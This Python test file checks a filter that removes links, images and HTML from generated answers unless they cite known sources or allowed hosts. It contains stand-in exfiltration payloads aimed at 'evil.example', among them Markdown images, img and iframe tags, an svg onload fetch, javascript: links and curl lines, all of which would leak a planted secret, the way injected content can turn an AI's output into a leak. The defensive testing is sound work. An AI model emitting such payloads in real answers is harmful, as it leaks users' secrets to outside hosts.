"""What of links, images and HTML an answer may show, read as a client would: by a Markdown parser."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from tests.fakes.search import passage
from use_cases.kernel.citations.links import REMOVED, LinkFilter, stands_in
from use_cases.kernel.citations.sources import LinkPolicy, SourceLedger
from use_cases.kernel.model import Hit

KNOWN = "https://status.example.com/board"
MAIL = "desk@example.com"
SECRET = "sk-planted"
EVIL = f"https://evil.example/?q={SECRET}"
_READER = MarkdownIt("commonmark", {"html": True}).enable("table")


def shown(*pieces: str, policy: LinkPolicy | None = None) -> str:
    links = LinkFilter(policy or LinkPolicy(), (KNOWN, MAIL).__contains__)
    return "".join([*map(links.push, pieces), links.finish()])


def called(markdown: str) -> list[str]:
    """The addresses that a client would call or offer, and the HTML that it would obey."""
    found: list[str] = []
    for block in _READER.parse(markdown):
        if block.type == "html_block":
            found.append(block.content)
        for token in block.children or ():
            if token.type == "html_inline":
                found.append(token.content)
            found += [str(token.attrs[name]) for name in ("href", "src") if name in token.attrs]
            if token.type == "text":  # GFM makes links of such text
                found += re.findall(
                    r"(?i)(?<![a-z0-9])(?:https?://|ftp://|www\.)\S+", token.content
                )
    return found


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("Rotate every 90 days [1].", "Rotate every 90 days [1]."),
        (f"See [the board]({KNOWN}) [1].", f"See [the board]({KNOWN}) [1]."),
        (f"See {KNOWN}.", f"See {KNOWN}."),
        (f"See <{KNOWN}>.", f"See <{KNOWN}>."),
        (f"![chart]({KNOWN})", f"[chart]({KNOWN})"),
        (f"![chart]({EVIL})", "[chart]"),
        (f"![]({EVIL} 'a title')", "[]"),
        (f"[here]({EVIL})", "[here]"),
        (f"[here](<{EVIL}>)", "[here]"),
        (f"[5]({EVIL})({EVIL})", "[5]"),
        (f"See {EVIL}!", f"See {REMOVED}!"),
        (f"(see {EVIL})", f"(see {REMOVED})"),
        (f"<{EVIL}>", f"< {REMOVED}>"),
        (f"<{MAIL}> or <{SECRET}@evil.example>", f"<{MAIL}> or < {SECRET}@evil.example>"),
        (f"Wow!![a]({EVIL})", "Wow! [a]"),
        (f"[a]: {EVIL}", f"[a] : {REMOVED}"),
        (f"<img src='{EVIL}'>", f"< img src='{REMOVED}'>"),
        ("one<br>two, 2 < 3, a <b>word</b>", "one<br>two, 2 < 3, a <b>word</b>"),
        ("Run `curl <host>` now", "Run `curl <host>` now"),
        (f"```\ncurl {EVIL} <x>\n```\n", f"```\ncurl {EVIL} <x>\n```\n"),
        (f"Run `curl {EVIL}`.", f"Run `curl {EVIL}`."),
        (
            "As the draft says [1](draft), yes: [2] (see there)",
            "As the draft says [1] (draft), yes: [2] (see there)",
        ),
        ("Note [1]: it holds", "Note [1]: it holds"),
        ("The http: scheme, www. and h", "The http: scheme, www. and h"),
        ("[x](#part)", "[x](#part)"),
        (f"The form is at {KNOWN}[1].", f"The form is at {KNOWN} [1]."),
        (f"\u201c{KNOWN}\u201d [1]", f"\u201c{KNOWN} \u201d [1]"),
        (f"|{KNOWN}|b|", f"|{KNOWN} |b|"),
        (f"{KNOWN};{KNOWN}", f"{KNOWN} ;{KNOWN}"),
        (f"see {EVIL}\uff0c and more", f"see {REMOVED}\uff0c and more"),
        (f"{KNOWN}/", f"{KNOWN}/"),
        ("HTTPS://STATUS.example.com/board", "HTTPS://STATUS.example.com/board"),
        (
            "It begins with https://. Ports http:80 and mailto:",
            "It begins with https://. Ports http:80 and mailto:",
        ),
        ("`a` or vec![1, 2]", "`a` or vec! [1, 2]"),
        ("[x](&#104;ttps://evil.example/a)", "[x]"),
        ("[x](https:\\/\\/evil.example/a)", "[x]"),
        ("[x](//evil.example/a)", "[x]"),
        ("[x](javascript:alert(1))", "[x]"),
        ("[x](mailto:a@evil.example?body=q)", "[x]"),
    ],
)
def test_what_stands_in_no_source_is_no_link(written: str, expected: str) -> None:
    assert shown(written) == expected


@pytest.mark.parametrize(
    "written",
    [
        # Code that is none for a reader of Markdown.
        f"\\` ![x]({EVIL}) `",
        f"a ` b\nc ` ![x]({EVIL}) ` d",
        f"| a | b |\n|---|---|\n| `a | ![x]({EVIL})` |",
        f"> ```\n![x]({EVIL})\n",
        f"- ```\n![x]({EVIL})\n",
        f"1. a\n   ```\n![x]({EVIL})\n",
        f"   ```\n ![x]({EVIL})\n",
        f'[a]({KNOWN} "`") ` ![x]({EVIL}) ` b',
        f"<{KNOWN}`> ![x]({EVIL}) `",
        f"<br>\n```\n<img src={EVIL}>\n```\n",
        f"``` a`b\n![x]({EVIL})\n```\n",
        f"````\n```\n````\n![x]({EVIL})",
        f"   ```\n```\n![x]({EVIL})",
        f"```\n    ```\n```\n![x]({EVIL})",
        f"- <b>\n  ```\n  <img src={EVIL}>",
        f"- ```\n  ```\n  ![x]({EVIL})\n",
        f"1) ~~~\n\n   ~~~\n   ![x]({EVIL})\n",
        f"- a\n\n    ```\n    x\n  ```\n  ![x]({EVIL})\n",
        f"- a\n\n\t```\n\tx\n  ```\n  ![x]({EVIL})\n",
        f"```\nx\n```\u00a0\n```\n![x]({EVIL})\n",
        f"```\nx\n```\x0c\n```\n![x]({EVIL})\n",
        f"~~~\r~~~\r![x]({EVIL})\n~~~\n",
        f"a `b\r\r![x]({EVIL})\r\rc` d\n",
        f"`a\n\u00a0\n`![x]({EVIL})`\n",
        f"[a\\[b]: //{SECRET}.example/s\n\nsee [a\\[b]\n",
        # Adjacent pieces that come together.
        f"[x]({EVIL})[y]({EVIL})({EVIL})",
        f"!<b>[x]({EVIL})",
        f"!!![x]({EVIL})",
        f"[![x]({EVIL})]({EVIL})",
        f"[x]\n({EVIL})",
        f"[x](\n{EVIL}\n)",
        f"[x][y]\n\n[y]:\n{EVIL}",
        f"[y\nz]: {EVIL}\n\n![y z]",
        f"> [y]: {EVIL}\n\n![y]",
        f'[x]({EVIL} "a\nb")',
        f"[x](<{EVIL}> (t))",
        f"<!-- --> <img src={EVIL}>",
        f"<svg/onload=fetch('{EVIL}')>",
        f"<iframe\nsrc={EVIL}>",
        f"</p><a href={EVIL}>",
        f"<?php {EVIL} ?>",
        f"HTTPS://evil.example/{SECRET}",
        f"www.evil.example/{SECRET}",
        f"*{EVIL}*",
        f"{KNOWN}/{SECRET}",
        f"{KNOWN}?q={SECRET}",
    ],
)
def test_a_planted_secret_reaches_no_client_in_an_address(written: str) -> None:
    for pieces in ([written], list(written), re.split(r"(?<=\W)", written)):
        assert [found for found in called(shown(*pieces)) if SECRET in found] == []


_FRAGMENTS = st.sampled_from(
    [
        *"`~!()[]<>:\\|*_#\n \t\"'",
        "``", "```", "~~~", "- ```\n  ```\n  ", "\t```", "    ```", "\r", "\r\n", "\u00a0", "\x0c", "&sol;", "//", "\n```\n", "\n\n", "> ", "- ", "1. ", "    ", "   ", "![", "](", "]: ", "a", "word ",
        "<br>", "<b>", "<img src=", "<a href=", "&#104;ttps", "http", "s://", "https:", "www", ".",
        KNOWN, EVIL, f"![x]({EVIL})", f"[x]({EVIL})", f"<{EVIL}>", f"[y]: {EVIL}\n",
    ]
)  # fmt: skip


@given(st.lists(_FRAGMENTS, max_size=14))
def test_nothing_that_a_reader_obeys_holds_the_secret(fragments: list[str]) -> None:
    """What comes through names no foreign address, however it is put together and cut."""
    whole = shown("".join(fragments))
    assert shown(*fragments) == whole
    assert shown(*"".join(fragments)) == whole
    assert [found for found in called(whole) if SECRET in found] == []


@pytest.mark.parametrize(
    ("address", "is_shown"),
    [
        ("https://docs.example.com/a?b=c", True),
        ("https://a.wiki.example.com/", True),
        ("https://wiki.example.com.evil.example/", False),
        ("https://docs.example.com@evil.example/", False),
        ("https:\\\\evil.example\\docs.example.com", False),
        ("ftp://docs.example.com/a", False),
        ("https://evil.example&sol;.wiki.example.com/", False),
    ],
)
def test_hosts_that_are_allowed_keep_links_and_images(address: str, is_shown: bool) -> None:
    hosts = ("docs.example.com", "*.wiki.example.com")
    policy = LinkPolicy(link_hosts=hosts, image_hosts=hosts)
    for written in (f"[x]({address})", f"![x]({address})"):
        assert (shown(written, policy=policy) == written) is is_shown
        assert (shown(*written, policy=policy) == written) is is_shown


def test_an_address_stands_in_a_source_from_its_beginning_to_its_end() -> None:
    ledger = SourceLedger()
    ledger.add_hit(
        Hit(passage("Ask at [the desk](https://desk.example.com/ask), or http://b.example."), 1.0)
    )
    entries = list(ledger.entries.values())
    assert stands_in("https://desk.example.com/ask", entries)
    assert stands_in("http://b.example", entries)
    for other in (
        "https://desk.example.com/as",
        "desk.example.com/ask",
        f"http://b.example/{SECRET}",
    ):
        assert not stands_in(other, entries)
